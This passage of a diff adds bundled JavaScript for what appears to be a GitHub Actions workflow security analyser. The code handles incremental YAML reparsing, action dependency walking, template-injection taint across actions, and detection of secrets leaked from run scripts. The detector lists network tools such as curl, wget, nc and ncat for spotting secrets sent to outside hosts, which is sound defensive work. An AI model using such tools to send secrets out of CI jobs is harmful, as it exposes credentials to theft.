+  const moved = Object.create(Object.getPrototypeOf(error), Object.getOwnPropertyDescriptors(error));
+  moved.pos = [error.pos[0] + offset, error.pos[1] + offset];
+  return moved;
+}
+var incrementalStats = { reparsed: 0, fallbacks: {} };
+function fail2(reason) {
+  incrementalStats.fallbacks[reason] = (incrementalStats.fallbacks[reason] ?? 0) + 1;
+  return null;
+}
+function reparseIncrementally(previousDoc, previousText, text, change = diffTexts(previousText, text)) {
+  if (previousDoc.errors.length > 0 || previousDoc.warnings.length > 0) return fail2("base-has-errors");
+  let plainDoc = PLAIN.get(previousDoc);
+  if (plainDoc === void 0) PLAIN.set(previousDoc, plainDoc = plain(previousDoc.contents));
+  if (!plainDoc) return fail2("anchor-or-alias");
+  if (previousDoc.directives?.docStart || previousText.startsWith("%")) return fail2("directives");
+  const lineStart2 = lineStartOf(previousText, change.start);
+  if (/^ *$/.test(previousText.slice(lineStart2, change.start))) {
+    let { start, oldEnd, newEnd } = change;
+    while (start > lineStart2 && previousText.charCodeAt(oldEnd - 1) === text.charCodeAt(newEnd - 1)) {
+      start--;
+      oldEnd--;
+      newEnd--;
+    }
+    change = { start, oldEnd, newEnd };
+  }
+  const region = findRegion(previousDoc, previousText, change);
+  if (!region) return fail2("outside-entry");
+  const delta = change.newEnd - change.oldEnd;
+  const end = region.end + delta;
+  const source = text.slice(region.start, end);
+  if (!staysIndented(source, region.indent)) return fail2("not-indented");
+  if (measureNesting(source, MAX_NESTING2 - 2).offset !== -1) return fail2("too-deep");
+  if (/[|>][+-]?[1-9]/.test(source)) return fail2("indentation-indicator");
+  const last = region.index === region.parent.items.length - 1;
+  const eol = source.endsWith("\r\n") ? "\r\n" : "\n";
+  if (end !== text.length && !source.endsWith("\n")) return fail2("no-line-break-after-entry");
+  const sentinel = last ? "" : `${" ".repeat(region.indent)}${SENTINEL}: 0${eol}`;
+  let part;
+  try {
+    part = parseDocument(source + sentinel, PARSE_OPTIONS);
+  } catch {
+    return fail2("entry-parse-threw");
+  }
+  if (part.errors.some((error) => !isLineLocal(error, source.length)) || part.warnings.length > 0 || part.directives?.docStart)
+    return fail2("entry-has-errors");
+  const contents = part.contents;
+  const expected = last ? 1 : 2;
+  if (!contents || !isMap(contents) || contents.flow || contents.items.length !== expected)
+    return fail2("not-one-block-entry");
+  if (!last) {
+    const stand = contents.items[1].key;
+    if (!stand || !isScalar(stand) || stand.value !== SENTINEL || stand.range?.[0] !== source.length + region.indent)
+      return fail2("not-one-block-entry");
+  }
+  const pair = contents.items[0];
+  const key = pair.key;
+  if (!key || !isScalar(key) || !key.range || key.range[0] !== region.indent || !plain(pair)) return fail2("key-moved-or-anchor");
+  const name = key.value;
+  if (name === "<<" || name === SENTINEL) return fail2("merge-key");
+  for (let i = 0; i < region.parent.items.length; i++) {
+    const other = region.parent.items[i].key;
+    if (i !== region.index && other && isScalar(other) && other.value === name) return fail2("duplicate-key");
+  }
+  const replaced = region.parent.items[region.index];
+  shiftInPlace(pair, region.start);
+  if (last) {
+    const oldEnd = replaced.value?.range?.[2];
+    const newEnd = pair.value?.range?.[2];
+    const standalone = contents.range;
+    if (oldEnd !== region.end || newEnd !== end || !standalone || standalone[1] !== standalone[2]) return fail2("last-entry-trailing-lines");
+  }
+  const oldOffsets = [...replaced.key?.range ?? [], ...replaced.value?.range ?? []];
+  const newOffsets = [...pair.key?.range ?? [], ...pair.value?.range ?? []];
+  const shift = (offset) => {
+    if (offset <= region.start) return offset;
+    if (offset >= region.end) return offset + delta;
+    const at = oldOffsets.indexOf(offset);
+    if (at === -1 || at >= newOffsets.length) throw new Unsupported();
+    return newOffsets[at];
+  };
+  let copied;
+  try {
+    copied = copyShifted(previousDoc.contents, shift, region.start, replaced, pair);
+  } catch (error) {
+    if (error instanceof Unsupported) return fail2("offset-inside-entry");
+    throw error;
+  }
+  const doc = Object.create(Object.getPrototypeOf(previousDoc), Object.getOwnPropertyDescriptors(previousDoc));
+  doc.contents = copied;
+  doc.errors = part.errors.map((error) => withOffset(error, region.start));
+  doc.warnings = [];
+  try {
+    if (previousDoc.range) doc.range = [shift(previousDoc.range[0]), shift(previousDoc.range[1]), shift(previousDoc.range[2])];
+  } catch {
+    return fail2("offset-inside-entry");
+  }
+  incrementalStats.reparsed++;
+  PLAIN.set(doc, true);
+  return doc;
+}
+
+// server/src/parse/document.ts
+var MAX_REPORTED_YAML_ERRORS = 100;
+var MAX_ANALYSED_LENGTH = 4 * 1024 * 1024;
+function classifyPath(path) {
+  const normalized = path.replace(/\\/g, "/");
+  if (/(^|\/)\.github\/workflows\/actions\.lock$/.test(normalized)) return "lockfile";
+  if (/(^|\/)\.github\/workflows\/[^/]+\.ya?ml$/i.test(normalized)) return "workflow";
+  if (/(^|\/)\.github\/dependabot\.ya?ml$/i.test(normalized)) return "dependabot";
+  if (/(^|\/)action\.ya?ml$/i.test(normalized)) return "action";
+  return "unknown";
+}
+var ParsedFile = class {
+  constructor(uri, kind, text, version2 = 0, previous) {
+    this.uri = uri;
+    this.kind = kind;
+    this.text = text;
+    this.version = version2;
+    this.lines = new LineIndex(text);
+    if (kind === "unknown") return;
+    if (text.length > MAX_ANALYSED_LENGTH) {
+      this.problems.push({
+        code: "file-too-large",
+        message: `File is ${Math.round(text.length / 1024)} KiB; files over ${MAX_ANALYSED_LENGTH / 1024 / 1024} MiB are not analysed.`,
+        span: { start: 0, end: Math.min(text.length, this.lines.lineContentEnd(0)) }
+      });
+      return;
+    }
+    const base2 = previous && previous.kind === kind && kind !== "lockfile" ? previous.reparseBase : null;
+    let incremental = null;
+    try {
+      incremental = base2 ? reparseIncrementally(base2.doc, base2.text, text) : null;
+    } catch {
+      incremental = null;
+    }
+    if (!incremental) {
+      const nesting = measureNesting(text);
+      if (nesting.offset !== -1) {
+        this.problems.push({
+          code: "too-deeply-nested",
+          message: `The document nests more than ${MAX_NESTING2} levels deep; it is not analysed.`,
+          span: { start: nesting.offset, end: Math.min(text.length, nesting.offset + 1) }
+        });
+        return;
+      }
+    }
+    try {
+      this.incremental = incremental !== null;
+      this.doc = incremental ?? parseDocument(text, kind === "lockfile" ? LOCKFILE_PARSE_OPTIONS : PARSE_OPTIONS);
+      this.reparseBase = this.doc.errors.length === 0 && this.doc.warnings.length === 0 ? { doc: this.doc, text } : base2;
+    } catch (error) {
+      this.problems.push({ code: "parse-failure", message: `The YAML parser failed: ${String(error)}`, span: { start: 0, end: 0 } });
+      return;
+    }
+    if (this.doc.errors.some((error) => /Maximum call stack size exceeded/.test(error.message))) {
+      this.doc = null;
+      this.problems.push({
+        code: "too-deep",
+        message: "The document nests too deeply to be analysed.",
+        span: { start: 0, end: this.lines.lineContentEnd(0) }
+      });
+      return;
+    }
+    const errors = this.doc.errors;
+    for (let index2 = 0; index2 < Math.min(errors.length, MAX_REPORTED_YAML_ERRORS); index2++) {
+      const error = errors[index2];
+      const start = Math.max(0, Math.min(error.pos[0], text.length));
+      const end = Math.max(start, Math.min(error.pos[1], text.length));
+      const more = index2 === MAX_REPORTED_YAML_ERRORS - 1 && errors.length > MAX_REPORTED_YAML_ERRORS ? ` (and ${errors.length - MAX_REPORTED_YAML_ERRORS} more YAML errors after this one, not shown)` : "";
+      this.problems.push({ code: error.code, message: firstLine(error.message) + more, span: { start, end } });
+    }
+    const root = this.doc.contents;
+    const map2 = root && isMap(root) ? root : null;
+    if (kind === "lockfile") {
+      try {
+        this.lockfile = readLockfile(this.doc.errors.length === 0 ? this.doc : null, text);
+      } catch (error) {
+        this.problems.push({ code: "internal-error", message: `Could not read the lock: ${String(error)}`, span: { start: 0, end: 0 } });
+      }
+      return;
+    }
+    if (!map2 && this.doc.errors.length === 0 && root !== null) {
+      const span = root.range ? { start: root.range[0], end: root.range[1] } : { start: 0, end: 0 };
+      this.problems.push({
+        code: "not-a-mapping",
+        message: "Expected a mapping of keys (such as `on:` and `jobs:`) at the top level.",
+        span
+      });
+    }
+    try {
+      if (kind === "workflow") this.workflow = new WorkflowView(map2, this.doc);
+      else if (kind === "action") this.action = new ActionView(map2, this.doc);
+      else this.dependabot = new DependabotView(map2, this.doc);
+      this.collectUses();
+    } catch (error) {
+      this.problems.push({
+        code: "internal-error",
+        message: `Could not read the document's structure: ${String(error)}`,
+        span: { start: 0, end: 0 }
+      });
+    }
+  }
+  uri;
+  kind;
+  text;
+  version;
+  lines;
+  problems = [];
+  doc = null;
+  workflow = null;
+  action = null;
+  dependabot = null;
+  /** The lock of a `lockfile` document (GitHub's actions.lock), with what its parser refuses. */
+  lockfile = null;
+  uses = [];
+  expressionSites = null;
+  /** True when the document came from re-parsing only the edited part of the previous version. */
+  incremental = false;
+  /** The latest version (this one or an earlier one) whose YAML parsed without errors: what the next version re-parses from. */
+  reparseBase = null;
+  /** Where per-file caches keep their entries (AttachedCache with `attachmentsOf`): the file's own shape never changes. */
+  attachments = {};
+  /** Every `${{ }}` in any scalar value of the document (computed on first use). */
+  get expressions() {
+    if (this.expressionSites) return this.expressionSites;
+    const sites = [];
+    const text = this.text;
+    const opens = [];
+    for (let at = text.indexOf("${{"); at !== -1; at = text.indexOf("${{", at + 1)) opens.push(at);
+    if (opens.length > 0) {
+      const contents = this.doc?.contents ?? null;
+      walkExpressionScalars(contents, opens, [], 0, (scalar, path) => {
+        const range = scalar.range;
+        if (!range || typeof scalar.value !== "string" || !scalar.value.includes("${{")) return;
+        for (const found of findExpressions(text, range[0], range[1])) {
+          const occurrence = scalar.type === "QUOTE_SINGLE" && found.text.includes("''") ? { ...found, text: found.text.replace(/''/g, "'"), parsed: parseExpression(found.text.replace(/''/g, "'")) } : found;
+          sites.push({ occurrence, scalar, path: [...path] });
+        }
+      });
+    }
+    this.expressionSites = sites;
+    return sites;
+  }
+  collectUses() {
+    const add = (entry, job, step) => {
+      if (!entry || !entry.value) return;
+      const value = typeof entry.value.value === "string" ? entry.value.value : null;
+      if (value === null) return;
+      const offset = valueOffsetInSource(entry.value, this.text);
+      this.uses.push({
+        entry,
+        value,
+        valueStart: offset ?? entry.valueSpan.start,
+        exact: offset !== null,
+        reference: parseUses(value),
+        job,
+        step
+      });
+    };
+    if (this.workflow) {
+      for (const job of this.workflow.jobs) {
+        add(job.uses, job, null);
+        for (const step of job.steps) add(step.uses, job, step);
+      }
+    }
+    if (this.action) for (const step of this.action.steps) add(step.uses, null, step);
+  }
+};
+function holdsOpen(opens, start, end) {
+  let low = 0;
+  let high = opens.length;
+  while (low < high) {
+    const mid = low + high >> 1;
+    if (opens[mid] < start) low = mid + 1;
+    else high = mid;
+  }
+  return low < opens.length && opens[low] + 3 <= end;
+}
+function walkExpressionScalars(node, opens, path, depth, visit3) {
+  if (!node || depth > 256) return;
+  const range = node.range;
+  if (range && !holdsOpen(opens, range[0], Math.max(range[1], range[2]))) return;
+  if (isScalar(node)) {
+    visit3(node, path);
+  } else if (isMap(node)) {
+    const items = node.items;
+    for (let i = 0; i < items.length; i++) {
+      const pair = items[i];
+      const key = pair.key;
+      if (key && isScalar(key)) {
+        const keyRange = key.range;
+        if (!keyRange || holdsOpen(opens, keyRange[0], Math.max(keyRange[1], keyRange[2]))) visit3(key, path);
+      }
+      path.push(scalarText(key) ?? "?");
+      walkExpressionScalars(pair.value, opens, path, depth + 1, visit3);
+      path.pop();
+    }
+  } else if (isSeq(node)) {
+    const items = node.items;
+    for (let i = 0; i < items.length; i++) {
+      path.push(i);
+      walkExpressionScalars(items[i], opens, path, depth + 1, visit3);
+      path.pop();
+    }
+  }
+}
+function firstLine(message) {
+  return message.split("\n")[0].replace(/ at line \d+, column \d+:?$/, "");
+}
+function parseFile(uri, kind, text, version2 = 0) {
+  return new ParsedFile(uri, kind, text, version2);
+}
+
+// server/src/dependencies/walk.ts
+var DEFAULT_MAX_DEPTH = 5;
+var DEFAULT_MAX_FILES = 200;
+var MAX_USES_PER_FILE = 100;
+var DependencyGraph = class {
+  /** `owner/repo@ref` (owner and repository lower-cased) → full commit SHA. */
+  commits = /* @__PURE__ */ new Map();
+  /** `owner/repo|path|commit` (lower-cased) → the fetched action or workflow. */
+  actions = /* @__PURE__ */ new Map();
+  /** Same keys → why it could not be fetched. */
+  failures = /* @__PURE__ */ new Map();
+  /** Sentences saying where the walk stopped (depth, file budget). */
+  stopped = [];
+  /** Files read (or found in the cache) during the walk. */
+  filesRead = 0;
+  /** Per-graph memo of the findings of each dependency (see chain.ts). */
+  memo = /* @__PURE__ */ new Map();
+  action(owner, repo, path, commit) {
+    const key = actionKey(owner, repo, path, commit);
+    const found = this.actions.get(key);
+    if (found) return available(found);
+    const failure = this.failures.get(key);
+    return failure === void 0 ? unavailable("not-fetched") : unavailable("failed", failure);
+  }
+  commitOf(owner, repo, ref2) {
+    if (FULL_SHA_RE.test(ref2)) return ref2.toLowerCase();
+    return this.commits.get(refKey(owner, repo, ref2));
+  }
+};
+function actionKey(owner, repo, path, commit) {
+  return `${owner}/${repo}|${path}|${commit}`.toLowerCase();
+}
+function refKey(owner, repo, ref2) {
+  return `${owner.toLowerCase()}/${repo.toLowerCase()}@${ref2}`;
+}
+function usesPath(uses) {
+  let path = uses.subpath ?? "";
+  while (path.endsWith("/")) path = path.slice(0, -1);
+  return path;
+}
+function isWorkflowPath2(path) {
+  return /^\.github\/workflows\/[^/]+\.ya?ml$/.test(path);
+}
+async function walkDependencies(data, usesValues, options = {}) {
+  const graph = new DependencyGraph();
+  const maxDepth = Math.max(1, options.maxDepth ?? DEFAULT_MAX_DEPTH);
+  const maxFiles = Math.max(1, options.maxFiles ?? DEFAULT_MAX_FILES);
+  const server = data.resolver.http?.server;
+  const serverUrl = options.serverUrl ?? (server ? `${server.origin}${trimEndOf(server.pathname, "/")}` : "https://github.com");
+  const seen = /* @__PURE__ */ new Set();
+  let level = usesValues.map(lockableUses).filter((uses) => uses !== null);
+  let budgetNoted = false;
+  const maxLookups = maxFiles * 2;
+  let lookups = 0;
+  const overBudget = (key, what) => {
+    if (!budgetNoted) graph.stopped.push(`more than ${what}: the rest of the chain was not followed`);
+    budgetNoted = true;
+    graph.failures.set(key, `not read: the walk stops after ${what}`);
+  };
+  for (let depth = 1; level.length > 0; depth++) {
+    const todo = [];
+    for (const uses of level) {
+      const id = `${uses.owner}/${uses.repo}|${usesPath(uses)}|${uses.ref}`.toLowerCase();
+      if (seen.has(id)) continue;
+      seen.add(id);
+      todo.push(uses);
+    }
+    if (todo.length === 0) break;
+    if (depth > maxDepth) {
+      graph.stopped.push(
+        `the dependency chain is deeper than ${maxDepth} levels at ${todo.map((u) => `${u.owner}/${u.repo}@${u.ref}`).join(", ")}: it was not followed further`
+      );
+      break;
+    }
+    const next = [];
+    await Promise.all(
+      todo.map(async (uses) => {
+        if (!FULL_SHA_RE.test(uses.ref) && !graph.commits.has(refKey(uses.owner, uses.repo, uses.ref))) {
+          if (lookups >= maxLookups) {
+            overBudget(`${uses.owner}/${uses.repo}@${uses.ref}`.toLowerCase(), `${maxLookups} ref look-ups`);
+            return;
+          }
+          lookups++;
+        }
+        const commit = await resolveCommit(data, graph, uses);
+        if (commit === null) return;
+        const path = usesPath(uses);
+        const key = actionKey(uses.owner, uses.repo, path, commit);
+        if (graph.actions.has(key) || graph.failures.has(key)) return;
+        if (graph.filesRead >= maxFiles) {
+          if (!budgetNoted) graph.stopped.push(`more than ${maxFiles} dependency files: the rest of the chain was not followed`);
+          budgetNoted = true;
+          graph.failures.set(key, `not read: the walk reads at most ${maxFiles} files`);
+          return;
+        }
+        const fetched = await fetchAction(data, uses, path, commit, serverUrl, graph, maxFiles);
+        if (!fetched.ok) {
+          graph.failures.set(key, fetched.message);
+          return;
+        }
+        graph.actions.set(key, fetched.action);
+        const inner = remoteUsesIn(fetched.action.file.text, fetched.action.file.kind === "workflow" ? "workflow" : "action");
+        if (inner.length > MAX_USES_PER_FILE)
+          graph.stopped.push(
+            `${uses.owner}/${uses.repo}${path ? `/${path}` : ""}@${commit.slice(0, 12)} names ${inner.length} actions: only the first ${MAX_USES_PER_FILE} were followed`
+          );
+        next.push(...inner.slice(0, MAX_USES_PER_FILE));
+      })
+    );
+    level = next.map(lockableUses).filter((uses) => uses !== null);
+  }
+  return graph;
+}
+async function resolveCommit(data, graph, uses) {
+  const ref2 = uses.ref;
+  if (FULL_SHA_RE.test(ref2)) return ref2.toLowerCase();
+  const key = refKey(uses.owner, uses.repo, ref2);
+  const known = graph.commits.get(key);
+  if (known) return known;
+  const resolved = await data.resolver.resolveRef(uses.owner, uses.repo, ref2);
+  if (!resolved.ok || !FULL_SHA_RE.test(resolved.value.commit)) return null;
+  graph.commits.set(key, resolved.value.commit.toLowerCase());
+  return resolved.value.commit.toLowerCase();
+}
+async function fetchAction(data, uses, path, commit, serverUrl, graph, maxFiles) {
+  const { owner, repo } = uses;
+  const workflow = isWorkflowPath2(path);
+  const candidates = workflow ? [path] : ["action.yml", "action.yaml"].map((name) => path === "" ? name : `${path}/${name}`);
+  for (const fileName of candidates) {
+    if (graph.filesRead >= maxFiles) return { ok: false, message: `not read: the walk reads at most ${maxFiles} files` };
+    graph.filesRead++;
+    const read = await readFileAtCommit(data, owner, repo, commit, fileName);
+    if (read.ok) {
+      const file = parseFile(`${owner}/${repo}/${fileName}@${commit}`, workflow ? "workflow" : "action", read.value.text);
+      const url = `${serverUrl}/${encodeURIComponent(owner)}/${encodeURIComponent(repo)}/blob/${commit}/${fileName.split("/").map(encodeURIComponent).join("/")}`;
+      return { ok: true, action: { owner, repo, path, commit, file, fileName, url } };
+    }
+    if (read.error.kind !== "not-found") return { ok: false, message: read.error.message };
+  }
+  return {
+    ok: false,
+    message: `${owner}/${repo}${path ? `/${path}` : ""} has no ${workflow ? path : "action.yml or action.yaml"} at ${commit.slice(0, 12)}`
+  };
+}
+
+// server/src/dependencies/chain.ts
+var CHAINED_RULES = /* @__PURE__ */ new Set([
+  "unpinned-uses",
+  "template-injection",
+  "unpinned-images",
+  "unverified-download",
+  "known-vulnerable-actions",
+  "archived-uses",
+  "insecure-commands",
+  "typosquat-uses"
+]);
+var ChainView = class {
+  constructor(base2, stack) {
+    this.base = base2;
+    this.stack = stack;
+  }
+  base;
+  stack;
+  action(owner, repo, path, commit) {
+    if (this.stack.has(actionKey(owner, repo, path, commit))) return { available: false, reason: "not-fetched" };
+    return this.base.action(owner, repo, path, commit);
+  }
+  commitOf(owner, repo, ref2) {
+    return this.base.commitOf?.(owner, repo, ref2);
+  }
+};
+function rootOf(view) {
+  return view instanceof ChainView ? { base: view.base, stack: view.stack } : { base: view, stack: /* @__PURE__ */ new Set() };
+}
+function resolvedSites(file, view) {
+  const out = [];
+  for (const site of file.uses) {
+    const uses = lockableUses(site.value);
+    if (!uses) continue;
+    const commit = view.commitOf?.(uses.owner, uses.repo, uses.ref);
+    if (!commit) continue;
+    const fetched = view.action(uses.owner, uses.repo, usesPath(uses), commit);
+    if (fetched.available) out.push({ site, uses: site.value, action: fetched.value });
+  }
+  return out;
+}
+function where(action, line) {
+  const path = action.path && !action.fileName?.startsWith(`${action.path}/`) && action.fileName !== action.path ? `/${action.path}` : "";
+  const name = action.fileName ?? "action.yml";
+  return `${action.owner}/${action.repo}${path}@${action.commit.slice(0, 12)} ${name}:${line + 1}`;
+}
+function usesSpan2(site) {
+  return site.entry.valueSpan;
+}
+function dependencyFindings(file, view, analyzeDependency2) {
+  const { base: base2, stack } = rootOf(view);
+  const findings2 = [];
+  for (const { site, action } of resolvedSites(file, view)) {
+    const key = actionKey(action.owner, action.repo, action.path, action.commit);
+    const inner = analyzeDependency2(action.file, new ChainView(base2, /* @__PURE__ */ new Set([...stack, key])));
+    const span = usesSpan2(site);
+    const range = file.lines.range(span);
+    for (const found of inner) {
+      if (!CHAINED_RULES.has(found.ruleId)) continue;
+      if (found.ruleId === "template-injection" && expandsOnlyInputs(action.file, found)) continue;
+      const at = where(action, found.range.start.line);
+      findings2.push({
+        ruleId: found.ruleId,
+        severity: found.severity,
+        confidence: found.confidence,
+        persona: found.persona,
+        message: `via ${at}: ${found.message}`,
+        span,
+        range,
+        related: [
+          { span: found.span, range: found.range, message: `${found.ruleId} in ${at}`, ...action.url ? { uri: action.url } : {} }
+        ],
+        fixes: []
+      });
+    }
+    findings2.push(...inputTaint(file, site, action));
+  }
+  return findings2;
+}
+function expandsOnlyInputs(file, finding) {
+  const text = file.text.slice(finding.span.start, finding.span.end).trim();
+  return /^(\$\{\{\s*)?inputs\.[A-Za-z0-9_-]+(\s*\}\})?$/.test(text);
+}
+function inputsIntoRun(action) {
+  const out = /* @__PURE__ */ new Map();
+  if (action.file.kind !== "action") return out;
+  for (const site of action.file.expressions) {
+    const path = site.path;
+    if (path.length !== 4 || path[0] !== "runs" || path[1] !== "steps" || path[3] !== "run") continue;
+    const single = singleContext(site);
+    if (!single) continue;
+    const parts = single.path.split(".");
+    if (parts.length !== 2 || parts[0] !== "inputs") continue;
+    const name = parts[1].toLowerCase();
+    if (out.has(name)) continue;
+    const span = { start: site.occurrence.start, end: site.occurrence.end };
+    out.set(name, { span, line: action.file.lines.range(span).start.line });
+  }
+  return out;
+}
+function inputTaint(file, site, action) {
+  const sinks = inputsIntoRun(action);
+  if (sinks.size === 0 || !site.step) return [];
+  const entries = /* @__PURE__ */ new Map();
+  for (const entry of site.step.with.entries) if (entry.value) entries.set(entry.value, entry);
+  if (entries.size === 0) return [];
+  const findings2 = [];
+  for (const expression of file.expressions) {
+    const entry = entries.get(expression.scalar);
+    if (!entry) continue;
+    const sink = sinks.get(entry.key.toLowerCase());
+    if (!sink) continue;
+    let verdict2 = null;
+    let leaf = null;
+    for (const found of assessSite(expression, scopeOf(file, expression.path))) {
+      const best = stronger(verdict2, found.verdict);
+      if (best !== verdict2) {
+        verdict2 = best;
+        leaf = found;
+      }
+    }
+    if (!verdict2 || !leaf || verdict2.capability === "fixed") continue;
+    const at = where(action, sink.line);
+    const span = { start: expression.occurrence.start, end: expression.occurrence.end };
+    findings2.push({
+      ruleId: "template-injection",
+      severity: verdict2.severity,
+      confidence: verdict2.confidence,
+      persona: verdict2.persona,
+      message: `\`${leaf.path}\` (${verdict2.reason}) is passed as \`${entry.key}\` to ${site.value}, which expands \`inputs.${entry.key}\` into a \`run:\` script (via ${at})`,
+      span,
+      range: file.lines.range(span),
+      related: [
+        {
+          span: sink.span,
+          range: action.file.lines.range(sink.span),
+          message: `\`inputs.${entry.key}\` expanded into a run: script in ${at}`,
+          ...action.url ? { uri: action.url } : {}
+        }
+      ],
+      fixes: []
+    });
+  }
+  return findings2;
+}
+
+// server/src/dependencies/secrets.ts
+function trackedName(tracked) {
+  if (tracked.name === null) return "every secret";
+  return `${tracked.context}.${tracked.name}`;
+}
+function reads(tracked, path) {
+  const lower2 = path.toLowerCase();
+  const prefix = `${tracked.context}.`;
+  if (!lower2.startsWith(prefix)) return false;
+  const rest = lower2.slice(prefix.length);
+  const dot = rest.indexOf(".");
+  const name = dot === -1 ? rest : rest.slice(0, dot);
+  if (tracked.name === null) return name !== "" && name !== "github_token";
+  return name === tracked.name || name === "*";
+}
+function astReads(ast, tracked) {
+  if (!ast) return false;
+  for (const leaf of valueLeaves(ast)) {
+    if (leaf.type === "literal") continue;
+    const path = contextPath(leaf, { computedIndexAsWildcard: true });
+    if (path && reads(tracked, path)) return true;
+  }
+  return false;
+}
+function textReads(text, tracked) {
+  if (!text.includes("${{")) return false;
+  for (const occurrence of findExpressions(text)) if (occurrence.terminated && astReads(occurrence.parsed.ast, tracked)) return true;
+  return false;
+}
+function isIdentifierChar(code) {
+  return code >= 48 && code <= 57 || code >= 65 && code <= 90 || code >= 97 && code <= 122 || code === 95;
+}
+function mentionsVariable(text, name) {
+  if (name === "") return false;
+  for (let at = text.indexOf("$", 0); at !== -1; at = text.indexOf("$", at + 1)) {
+    const brace = text.charCodeAt(at + 1) === 123;
+    const start = brace ? at + 2 : at + 1;
+    if (text.startsWith(name, start) && !isIdentifierChar(text.charCodeAt(start + name.length))) return true;
+    if (!brace && text.slice(start, start + 4).toLowerCase() === "env:") {
+      const after = start + 4;
+      if (text.slice(after, after + name.length).toLowerCase() === name.toLowerCase() && !isIdentifierChar(text.charCodeAt(after + name.length)))
+        return true;
+    }
+  }
+  const percent = `%${name.toLowerCase()}%`;
+  return text.length >= percent.length && text.toLowerCase().includes(percent);
+}
+function wordCarries(word, needle) {
+  if (needle.variables.some((name) => mentionsVariable(word.raw, name))) return true;
+  return textReads(word.raw, needle.tracked);
+}
+function bodyCarries(body, quoted, needle) {
+  if (!quoted && needle.variables.some((name) => mentionsVariable(body, name))) return true;
+  return textReads(body, needle.tracked);
+}
+var PERSISTING_FILES = ["GITHUB_ENV", "GITHUB_OUTPUT", "GITHUB_PATH"];
+function persistingFile(word) {
+  if (!word) return null;
+  let text = word.text.trim();
+  if (text.startsWith("${{") && text.endsWith("}}")) {
+    const inner = text.slice(3, -2).trim().toLowerCase();
+    const name2 = inner.startsWith("github.") ? `GITHUB_${inner.slice(7).toUpperCase()}` : inner.startsWith("env.") ? inner.slice(4).toUpperCase() : "";
+    return PERSISTING_FILES.includes(name2) ? name2 : null;
+  }
+  if (text.startsWith("%") && text.endsWith("%")) text = text.slice(1, -1);
+  else if (text.startsWith("${") && text.endsWith("}")) text = text.slice(2, -1);
+  else if (text.toLowerCase().startsWith("$env:")) text = text.slice(5);
+  else if (text.startsWith("$")) text = text.slice(1);
+  else return null;
+  const name = text.toUpperCase();
+  return PERSISTING_FILES.includes(name) ? name : null;
+}
+var PRINTERS2 = /* @__PURE__ */ new Set(["echo", "printf", "write-output", "write-host", "write", "print"]);
+var NETWORK = /* @__PURE__ */ new Set([
+  "curl",
+  "wget",
+  "http",
+  "https",
+  "xh",
+  "invoke-webrequest",
+  "iwr",
+  "invoke-restmethod",
+  "irm",
+  "nc",
+  "ncat",
+  "aria2c"
+]);
+var GITHUB_HOSTS = /* @__PURE__ */ new Set(["github.com", "api.github.com", "uploads.github.com"]);
+var GITHUB_URL_VARIABLES = ["GITHUB_API_URL", "GITHUB_SERVER_URL", "GITHUB_GRAPHQL_URL"];
+function hostOf(command) {
+  for (const word of command.argv.slice(1)) {
+    const text = word.text;
+    if (GITHUB_URL_VARIABLES.some((name) => mentionsVariable(text, name)) || /* `${{ github.api_url }}` */
+    githubUrlExpression(text))
+      return "api.github.com";
+    const scheme = text.indexOf("://");
+    if (scheme === -1) continue;
+    let end = scheme + 3;
+    while (end < text.length && !"/:?#".includes(text[end])) end++;
+    const host = text.slice(scheme + 3, end).toLowerCase();
+    const at = host.lastIndexOf("@");
+    return at === -1 ? host : host.slice(at + 1);
+  }
+  return "";
+}
+function githubUrlExpression(text) {
+  const lower2 = text.toLowerCase();
+  return ["github.api_url", "github.server_url", "github.graphql_url"].some((name) => lower2.includes(name));
+}
+function scriptLeak(run2, needle) {
+  const commands = run2.script.commands;
+  for (let index2 = 0; index2 < commands.length; index2++) {
+    const command = commands[index2];
+    const carries = command.argv.some((word) => wordCarries(word, needle));
+    const heredoc = command.heredocs.some((doc) => bodyCarries(doc.body, doc.quoted, needle));
+    const at = run2.sourceSpan(command.span);
+    const target = command.redirects.map((redirect) => redirect.op.includes(">") ? persistingFile(redirect.target) : null).find(Boolean);
+    if (target && (carries || heredoc)) return { kind: "persisted", what: `writes it to \`$${target}\``, severity: "medium", span: at };
+    if (command.name === "tee" && index2 > 0 && commands[index2 - 1].pipesTo) {
+      const file = command.argv.slice(1).map(persistingFile).find(Boolean);
+      const before = commands[index2 - 1];
+      if (file && before.argv.some((word) => wordCarries(word, needle)))
+        return { kind: "persisted", what: `writes it to \`$${file}\``, severity: "medium", span: at };
+    }
+    if (!carries) continue;
+    if (NETWORK.has(command.name)) {
+      const host = hostOf(command);
+      if (GITHUB_HOSTS.has(host)) continue;
+      return {
+        kind: "network",
+        what: host ? `sends it with \`${command.name}\` to \`${host}\`` : `sends it with \`${command.name}\` to a host the script computes`,
+        severity: "high",
+        span: at
+      };
+    }
+    if (PRINTERS2.has(command.name)) {
+      const first = command.argv[1]?.text ?? "";
+      if (first.startsWith("::add-mask::")) continue;
+      if (first.startsWith("::set-output") || first.startsWith("::set-env"))
+        return {
+          kind: "persisted",
+          what: `sets it as a step output or environment variable (\`${first.slice(0, first.indexOf("::", 2) + 2)}\`)`,
+          severity: "medium",
+          span: at
+        };
+      if (command.pipesTo || command.inSubstitution || command.redirects.some((redirect) => redirect.op.includes(">") && !toLog(redirect.target)))
+        continue;
+      return { kind: "log", what: `prints it to the job log with \`${command.name}\``, severity: "low", span: at };
+    }
+  }
+  return null;
+}
+function toLog(word) {
+  const text = word?.text ?? "";
+  return text === "/dev/stdout" || text === "/dev/stderr" || text === "&1" || text === "&2" || text === "1" || text === "2";
+}
+function isPinned(uses) {
+  const at = uses.lastIndexOf("@");
+  if (uses.startsWith("docker://")) return uses.includes("@sha256:");
+  if (at === -1) return false;
+  const ref2 = uses.slice(at + 1);
+  if (ref2.length !== 40) return false;
+  for (let i = 0; i < ref2.length; i++) if (!"0123456789abcdefABCDEF".includes(ref2[i])) return false;
+  return true;
+}
+function isRemote(uses) {
+  return !uses.startsWith("./") && !uses.startsWith("$/") && !uses.startsWith(".\\") && (uses.startsWith("docker://") || uses.includes("/"));
+}
+var memo = /* @__PURE__ */ new WeakMap();
+function followSecret(action, tracked, context) {
+  return follow(action, tracked, context, 1, /* @__PURE__ */ new Set());
+}
+function follow(action, tracked, context, depth, stack) {
+  const key = actionKey(action.owner, action.repo, action.path, action.commit);
+  if (stack.has(key) || depth > (context.maxDepth ?? DEFAULT_MAX_DEPTH)) return null;
+  const memoKey = `${tracked.context}.${tracked.name ?? "*"}|${context.privilegedCaller}|${depth}`;
+  let byValue = memo.get(action);
+  const known = byValue?.get(memoKey);
+  if (known !== void 0) return known;
+  stack.add(key);
